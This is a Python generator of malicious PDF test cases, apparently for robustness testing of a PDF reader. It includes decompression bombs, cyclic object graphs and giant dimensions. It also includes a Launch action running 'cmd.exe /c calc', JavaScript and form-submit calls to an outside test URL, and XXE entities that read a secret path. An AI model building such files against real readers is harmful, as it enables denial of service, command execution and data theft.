"""PDFs with circles where a tree should be, objects that grow without end, giant pages, and ways out of the file."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Mapping
from random import Random

from hostile.case import DOUBTED, READ, REFUSED, Case, Outside

FAILED = frozenset({"failed"})
SHOWING = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    b"/Resources<</XObject<</I 6 0 R>>/Font<</F1 5 0 R>>>>>>"
)
"""A page that has the picture 6."""
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
FONTS = b"/Resources<</Font<</F1 5 0 R>>>>"


def cases(outside: Outside, random: Random) -> Iterator[Case]:
    yield from _trees()
    yield from _forms()
    yield from _pages()
    yield from _streams()
    yield from _tables_of_objects()
    yield from _leading_out(outside)
    yield from _locked()


def stream(data: bytes, entries: str = "") -> bytes:
    return f"<<{entries}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


def written(text: str) -> bytes:
    """A page's content that prints ``text``, a line of it for each line."""
    lines = "".join(f"({line}) Tj 0 -14 Td " for line in text.split("\n"))
    return f"BT /F1 12 Tf 72 700 Td {lines}ET".encode()


def pdf(content: bytes, changes: Mapping[int, bytes] | None = None, trailer: str = "", entries: str = "") -> bytes:
    """One page that shows ``content``: 1 catalogue, 2 page tree, 3 page, 4 content, 5 font; ``changes`` go over them.

    ``entries`` go into the page's dictionary.
    """
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" + FONTS + entries.encode() + b">>",
        4: stream(content),
        5: FONT,
    }
    return assembled({**objects, **(changes or {})}, trailer)


def assembled(objects: Mapping[int, bytes], trailer: str = "") -> bytes:
    """The objects with a true table of where they stand."""
    file, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(file)
        file += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, size = len(file), max(objects) + 1
    file += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        file += b"%010d %05d %s \n" % ((places[number], 0, b"n") if number in places else (0, 65535, b"f"))
    return bytes(file) + f"trailer<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()


PLAIN = written("2023")


def _trees() -> Iterator[Case]:
    """Page trees."""
    kids = {
        "itself": b"<</Type/Pages/Kids[2 0 R]/Count 1>>",
        "itself-often": b"<</Type/Pages/Kids[" + b"2 0 R " * 500 + b"]/Count 500>>",
        "page-often": b"<</Type/Pages/Kids[" + b"3 0 R " * 60 + b"]/Count 60>>",
        "page-6000": b"<</Type/Pages/Kids[" + b"3 0 R " * 6000 + b"]/Count 6000>>",
        "nothing": b"<</Type/Pages/Kids[]/Count 0>>",
        "no-kids": b"<</Type/Pages/Count 3>>",
        "count-giant": b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>",
        "count-negative": b"<</Type/Pages/Kids[3 0 R]/Count -7>>",
        "count-wrong": b"<</Type/Pages/Kids[3 0 R]/Count 40>>",
        "missing": b"<</Type/Pages/Kids[99 0 R 98 0 R]/Count 2>>",
        "numbers": b"<</Type/Pages/Kids[1 2 (a) null]/Count 4>>",
        "catalogue": b"<</Type/Pages/Kids[1 0 R 3 0 R]/Count 2>>",
        "parent": b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 2 0 R>>",
    }
    for name, tree in kids.items():
        yield Case(f"tree-{name}.pdf", pdf(PLAIN, {2: tree}))
    chain = {number: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(10, 3000)}
    yield Case("tree-deep.pdf", pdf(PLAIN, {2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", **chain, 3000: pdf_page()}))
    circle = {2: b"<</Type/Pages/Kids[10 0 R]/Count 2>>", 10: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}
    yield Case("tree-circle.pdf", pdf(PLAIN, circle))
    wide = {2: b"<</Type/Pages/Kids[10 0 R " * 1 + b"10 0 R]/Count 1024>>"}
    doubled = {
        n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 1, n + 1, 2 ** (40 - n)) for n in range(10, 40)
    }
    yield Case("tree-doubled.pdf", pdf(PLAIN, {**wide, **doubled, 40: pdf_page()}))
    yield Case("parents.pdf", pdf(PLAIN, {3: b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>"}))
    yield Case("root-circle.pdf", pdf(PLAIN, {1: b"1 0 R"}))
    yield Case(
        "outlines.pdf",
        pdf(
            PLAIN,
            {
                1: b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
                6: b"<</First 6 0 R/Next 6 0 R/Last 6 0 R/Count 99999999>>",
            },
        ),
    )
    yield Case(
        "names.pdf",
        pdf(PLAIN, {1: b"<</Type/Catalog/Pages 2 0 R/Names<</Dests 6 0 R>>>>", 6: b"<</Kids[6 0 R 6 0 R]>>"}),
    )


def pdf_page() -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" + FONTS + b">>"


def _form(content: bytes, uses: str) -> bytes:
    return stream(
        content, f"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<<{uses}>>/Font<</F1 5 0 R>>>>"
    )


def _forms() -> Iterator[Case]:
    """Pictures in pictures."""
    page = "/Resources<</XObject<</A 10 0 R>>/Font<</F1 5 0 R>>>>"
    uses = "/A 10 0 R"

    def shown(objects: Mapping[int, bytes], content: bytes = b"/A Do") -> bytes:
        body = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R" + page.encode() + b">>"
        return pdf(PLAIN + b" " + content, {3: body, **objects})

    yield Case("form-itself.pdf", shown({10: _form(b"/A Do " + PLAIN, uses)}))
    two = {10: _form(b"/B Do " * 3 + PLAIN, "/B 11 0 R"), 11: _form(b"/A Do " * 3 + PLAIN, uses)}
    yield Case("form-circle.pdf", shown(two))
    for width, depth in ((1, 200), (3, 4)):
        tower = {
            10 + level: _form(f"/X{level + 1} Do ".encode() * width, f"/X{level + 1} {11 + level} 0 R")
            for level in range(depth)
        }
        yield Case(f"form-{width}-to-{depth}.pdf", shown({**tower, 10 + depth: _form(PLAIN, "")}), READ | FAILED)
    yield Case("form-often.pdf", shown({10: _form(PLAIN, "")}, b"/A Do " * 2_000), READ | FAILED)
    cmap = b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ff> <0000> endbfrange"
    glyph = b"1000 0 0 0 750 750 d1 /F1 1 Tf BT (a) Tj ET"
    type3 = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 750 750]/FontMatrix[.001 0 0 .001 0 0]/ToUnicode 7 0 R"
        b"/FirstChar 97/LastChar 97"
        b"/Widths[1000]/Encoding<</Type/Encoding/Differences[97/a]>>/CharProcs<</a 6 0 R>>"
        b"/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    yield Case("font-in-itself.pdf", pdf(written("aaa"), {5: type3, 6: stream(glyph), 7: stream(cmap)}))
    pattern = "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep .0001/YStep .0001"
    pattern += "/Resources<</Pattern<</P 6 0 R>>>>"
    tiled = b"/Pattern cs /P scn 0 0 500 500 re f"
    yield Case("pattern.pdf", pdf(tiled, {6: stream(tiled, pattern)}, entries="/Pattern<</P 6 0 R>>"))
    descendant = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R]/ToUnicode 5 0 R>>"
    yield Case("font-circle.pdf", pdf(PLAIN, {5: descendant}))
    mask = stream(
        b"\0" * 100,
        "/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 10 0 R",
    )
    yield Case("mask-itself.pdf", shown({10: mask}))


def _pages() -> Iterator[Case]:
    """Sizes of pages and pictures."""
    boxes = (
        "0 0 1e9 1e9", "0 0 99999999999999999999 1", "0 0 0 0", "595 842 0 0", "0 0 1e-9 1e-9",
        "nan nan inf inf", "0 0 595", "0 0 (a) (b)", "-1e30 -1e30 1e30 1e30", "0 0 595 3e38",
        "1e15 1e15 1000000000000595 2e15",
    )  # fmt: skip
    for number, box in enumerate(boxes):
        page = f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R".encode() + FONTS + b">>"
        ruled = written("1 2 3") + b" 0 0 m 9e8 0 l S 0 0 m 0 9e8 l S 10 10 1e9 1e9 re S"
        yield Case(f"box-{number}.pdf", pdf(ruled, {3: page}))
    for number, extra in enumerate(
        ("/UserUnit 1e9", "/Rotate 45", "/Rotate 99999999999", "/CropBox[1e9 1e9 2e9 2e9]", "/UserUnit -1")
    ):
        yield Case(f"page-{number}.pdf", pdf(PLAIN, entries=extra))
    for number, (width, height, filters) in enumerate(
        (
            (10**9, 10**9, ""),
            (100_000, 100_000, "/FlateDecode"),
            (2**31 - 1, 2**31 - 1, "/DCTDecode"),
            (60_000, 60_000, "/CCITTFaxDecode"),
            (60_000, 60_000, "/JBIG2Decode"),
            (60_000, 60_000, "/JPXDecode"),
            (-1, -1, ""),
            (0, 0, ""),
            (40_000, 40_000, "/RunLengthDecode"),
        )
    ):
        chosen = f"/Filter{filters}" if filters else ""
        image = stream(
            zlib.compress(bytes(1000)),
            f"/Type/XObject/Subtype/Image/Width {width}/Height {height}"
            f"/BitsPerComponent 8/ColorSpace/DeviceRGB{chosen}",
        )
        page = SHOWING
        text = b" ".join(written(f"line {line} of this page\nand more") for line in range(3))
        yield Case(
            f"picture-{number}.pdf", pdf(text + b" q 595 0 0 842 0 0 cm /I Do Q", {3: page, 6: image}), READ | FAILED
        )


def _streams() -> Iterator[Case]:
    """What stands in streams."""
    big = zlib.compress(b"0 0 m 1 1 l S " * 300_000, 9)
    yield Case("bomb-paths.pdf", pdf(b"", {4: stream(big, "/Filter/FlateDecode")}), READ | FAILED)
    blank = zlib.compress(b" " * 100_000_000, 1)
    yield Case("bomb-blanks.pdf", pdf(b"", {4: stream(blank, "/Filter/FlateDecode")}), READ | FAILED)
    twice = zlib.compress(zlib.compress(bytes(100_000_000), 1), 9)
    yield Case("bomb-twice.pdf", pdf(b"", {4: stream(twice, "/Filter[/FlateDecode/FlateDecode]")}), READ | FAILED)
    texts = zlib.compress(b"BT /F1 9 Tf 9 700 Td " + b"(1234567890) Tj " * 60_000 + b"ET", 9)
    yield Case("600000-characters.pdf", pdf(b"", {4: stream(texts, "/Filter/FlateDecode")}), READ | FAILED)
    rules = b"".join(
        b"%d 0 m %d 842 l S 0 %d m 595 %d l S " % (n % 595, n % 595, n % 842, n % 842) for n in range(20_000)
    )
    yield Case("40000-rulings.pdf", pdf(rules + PLAIN), READ | FAILED)
    fine = b"".join(
        b"%.3f 0 m %.3f 842 l S 0 %.3f m 595 %.3f l S " % (n * 0.9, n * 0.9, n * 0.9, n * 0.9) for n in range(660)
    )
    yield Case("fine-grid.pdf", pdf(fine + PLAIN), READ | FAILED)
    longest = b"0 0 m " + b"".join(b"%d %d l " % (n % 595, n % 842) for n in range(150_000)) + b"S"
    yield Case("long-path.pdf", pdf(longest + PLAIN), READ | FAILED)
    for name, nested in {
        "arrays": b"[" * 200_000,
        "dictionaries": b"<<" * 200_000,
        "states": b"q " * 200_000 + PLAIN,
        "texts": b"BT " * 100_000 + PLAIN,
        "strings": b"(" * 200_000,
        "marked": b"/A <</B " * 60_000,
        "inline": b"BI /W 99999 /H 99999 /BPC 8 /CS /RGB ID " + bytes(999) + b" EI " + PLAIN,
        "numbers": b"9" * 200_000 + b" 0 Td " + PLAIN,
        "matrices": PLAIN + b"1e30 0 0 1e30 0 0 cm " * 40 + b"0 0 m 9 9 l S",
    }.items():
        yield Case(f"nested-{name}.pdf", pdf(nested), READ | FAILED)
    yield Case("nested-object.pdf", pdf(PLAIN, {6: b"[" * 200_000 + b"]" * 200_000}, "/Info 6 0 R"), READ | FAILED)
    filters = "/Filter[" + "/FlateDecode" * 3000 + "]"
    yield Case("filters.pdf", pdf(b"", {4: stream(zlib.compress(PLAIN), filters)}), READ | FAILED)
    for number, parameters in enumerate(
        ("/Columns 2147483647", "/Columns 0", "/Colors 99999999/BitsPerComponent 16", "/Predictor 15/Columns 1")
    ):
        entries = f"/Filter/FlateDecode/DecodeParms<</Predictor 12{parameters}>>"
        yield Case(f"predictor-{number}.pdf", pdf(b"", {4: stream(zlib.compress(PLAIN), entries)}))
    for number, length in enumerate(("4 0 R", "99999999999", "-1", "99 0 R", "(a)", "1099511627776")):
        lying = f"<</Length {length}>>stream\n".encode() + PLAIN + b"\nendstream"
        yield Case(f"length-{number}.pdf", pdf(PLAIN, {4: lying}))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[" + b"4 0 R " * 20_000 + b"]" + FONTS + b">>"
    yield Case("contents-often.pdf", pdf(PLAIN, {3: page}), READ | FAILED)
    cmap = (
        b"begincmap\n1 begincodespacerange <00> <ff> endcodespacerange\n"
        + b"1 beginbfrange <00> <ff> <4e00> endbfrange\n" * 60_000
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    yield Case("characters-map.pdf", pdf(PLAIN, {5: font, 6: stream(cmap)}), READ | FAILED)
    wide = b"1 begincidrange <00000000> <ffffffff> 0 endcidrange 1 beginbfrange <0000> <ffff> <4e00> endbfrange"
    yield Case("characters-range.pdf", pdf(PLAIN, {5: font, 6: stream(wide)}), READ | FAILED)
    described = "/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 6 0 R>>"
    program = f"<</Type/Font/Subtype/TrueType/BaseFont/X{described}>>"
    yield Case("font-noise.pdf", pdf(PLAIN, {5: program.encode(), 6: stream(bytes(range(256)) * 90)}))


def _tables_of_objects() -> Iterator[Case]:
    """Where a file says that its objects stand."""
    plain = pdf(PLAIN)
    start = plain.rindex(b"xref\n0")
    yield Case("table-itself.pdf", pdf(PLAIN, trailer=f"/Prev {start}"))
    for number, before in enumerate(("0", "-1", "99999999999", "9", "1 0 R")):
        yield Case(f"table-before-{number}.pdf", pdf(PLAIN, trailer=f"/Prev {before}"))
    yield Case("table-stream-itself.pdf", pdf(PLAIN, trailer=f"/XRefStm {start}"))
    for number, size in enumerate(("0", "-1", "2147483647", "99999999999999")):
        yield Case(f"table-size-{number}.pdf", plain.replace(b"/Size 6", f"/Size {size}".encode()))
    yield Case("table-entries.pdf", plain.replace(b"xref\n0 6", b"xref\n0 999999999"))
    yield Case("table-start.pdf", plain.replace(b"xref\n0 6", b"xref\n2147483640 6"))
    yield Case("table-nowhere.pdf", plain[: plain.rindex(b"startxref")] + b"startxref\n99999999\n%%EOF")
    yield Case("table-missing.pdf", plain[: plain.rindex(b"xref\n0")])
    yield Case("table-all-one.pdf", plain.replace(plain[start + 29 : start + 39], b"0000000009"))
    members = b"6 0 7 30 " + b"<</Type/ObjStm/Extends 6 0 R>> <</A 7 0 R>>"
    for number, entries in enumerate(
        (
            "/N 2/First 9",
            "/N 2147483647/First 9",
            "/N 2/First 2147483647",
            "/N -1/First -1",
            "/N 2/First 9/Extends 6 0 R",
        )
    ):
        yield Case(f"object-stream-{number}.pdf", pdf(PLAIN, {6: stream(members, f"/Type/ObjStm{entries}")}))
    for number, widths in enumerate(("[1 2 1]", "[8 8 8]", "[0 0 0]", "[-1 2 1]", "[2147483647 2147483647 1]")):
        table = stream(bytes(200), f"/Type/XRef/Size 9/W{widths}/Root 1 0 R/Index[0 2147483647]")
        body = plain[: plain.rindex(b"xref\n0")]
        yield Case(
            f"table-stream-{number}.pdf",
            body + b"9 0 obj\n" + table + f"\nendobj\nstartxref\n{len(body)}\n%%EOF".encode(),
        )
    circle = {6: b"7 0 R", 7: b"6 0 R", 3: b"<</Type/Page/Parent 2 0 R/MediaBox 6 0 R/Contents 7 0 R/Resources 6 0 R>>"}
    yield Case("references.pdf", pdf(PLAIN, circle))
    yield Case("header-only.pdf", b"%PDF-1.7\n%%EOF\n", FAILED)
    yield Case("endless-comment.pdf", b"%PDF-1.7\n" + b"%" * 3_000_000, FAILED)
    yield Case("objects.pdf", b"%PDF-1.7\n" + b"1 0 obj\n" * 300_000, FAILED)
    yield Case("two-in-one.pdf", plain + plain)
    yield Case("version.pdf", plain.replace(b"%PDF-1.7", b"%PDF-99999999999"))


def _leading_out(outside: Outside) -> Iterator[Case]:
    """Actions, attached and external files, forms that send themselves."""
    path, url = str(outside.secret), outside.url
    actions = {
        "uri": f"/S/URI/URI({url}uri)",
        "launch": f"/S/Launch/F({path})/Win<</F(cmd.exe)/P(/c calc)>>",
        "go": f"/S/GoToR/F({path})/D[0/Fit]",
        "go-embedded": f"/S/GoToE/F({path})/D[0/Fit]",
        "script": f"/S/JavaScript/JS(app.launchURL\\('{url}'\\); this.submitForm\\('{url}'\\);)",
        "submit": f"/S/SubmitForm/F({url}submit)",
        "import": f"/S/ImportData/F({path})",
        "movie": f"/S/Rendition/R<</C<</D({path})>>>>",
    }
    for name, action in actions.items():
        opened = {1: f"<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>/AA<</WC<<{action}>>>>>>".encode()}
        yield Case(f"action-{name}.pdf", pdf(PLAIN, opened), READ)
    for way, target in (("file", path), ("net", f"{url}stream"), ("spec", f"<</Type/Filespec/FS/URL/F({url}spec)>>")):
        named = target if way == "spec" else f"({target})"
        yield Case(f"external-{way}.pdf", pdf(PLAIN, {4: f"<</Length 0/F {named}>>stream\n\nendstream".encode()}))
        image = f"<</Type/XObject/Subtype/Image/Width 9/Height 9/Length 0/F {named}>>stream\n\nendstream"
        form = f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F {named}/Page 0>>/Length 0>>stream\n\nendstream"
        for kind, item in (("image", image), ("form", form)):
            page = SHOWING
            yield Case(f"{kind}-{way}.pdf", pdf(PLAIN + b" /I Do", {3: page, 6: item.encode()}), READ)
        font = "<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</FontName/X/FontFile2 6 0 R>>>>"
        yield Case(
            f"font-{way}.pdf", pdf(PLAIN, {5: font.encode(), 6: f"<</Length 0/F {named}>>stream\n\nendstream".encode()})
        )
    declared = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside.address}"><!ENTITY n SYSTEM "{url}">]>'
    entity = f'<?xml version="1.0"?>{declared}<x>&e;&n;</x>'
    xfa = {
        1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[]>>/Metadata 6 0 R>>",
        6: stream(entity.encode()),
    }
    yield Case("xfa.pdf", pdf(PLAIN, xfa), READ)
    file = f"<</Type/Filespec/F({path})/EF<</F 6 0 R>>>>"
    attached = f"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a){file}]>>>>>>"
    yield Case("attached.pdf", pdf(PLAIN, {1: attached.encode(), 6: stream(b"MZ")}), READ)
    fields = "<</FT/Tx/T(a)/V(1)/Kids[6 0 R]/Parent 6 0 R>>" * 3
    yield Case(
        "fields.pdf",
        pdf(
            PLAIN,
            {
                1: f"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R {fields}]>>>>".encode(),
                6: b"<</FT/Tx/Kids[6 0 R]/Parent 6 0 R>>",
            },
        ),
        READ,
    )


def _locked() -> Iterator[Case]:
    unknown = "<00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff>"
    for number, handler in enumerate(
        (
            f"/Filter/Standard/V 1/R 2/O{unknown}/U{unknown}/P -1",
            f"/Filter/Standard/V 5/R 6/O{unknown}/U{unknown}/OE{unknown}/UE{unknown}/P -1/Perms{unknown}",
            "/Filter/Standard/V 99/R 99/O()/U()/P 0",
            "/Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4",
            "/Filter/Standard/V 4/R 4/Length 99999999/O()/U()/P 0/CF<</StdCF<</CFM/AESV2/Length 99999>>>>/StmF/StdCF",
            "/Filter/None",
        )
    ):
        identity = "/ID[<00><00>]"
        yield Case(
            f"locked-{number}.pdf",
            pdf(PLAIN, {6: f"<<{handler}>>".encode()}, f"/Encrypt 6 0 R{identity}"),
            REFUSED | DOUBTED,
        )
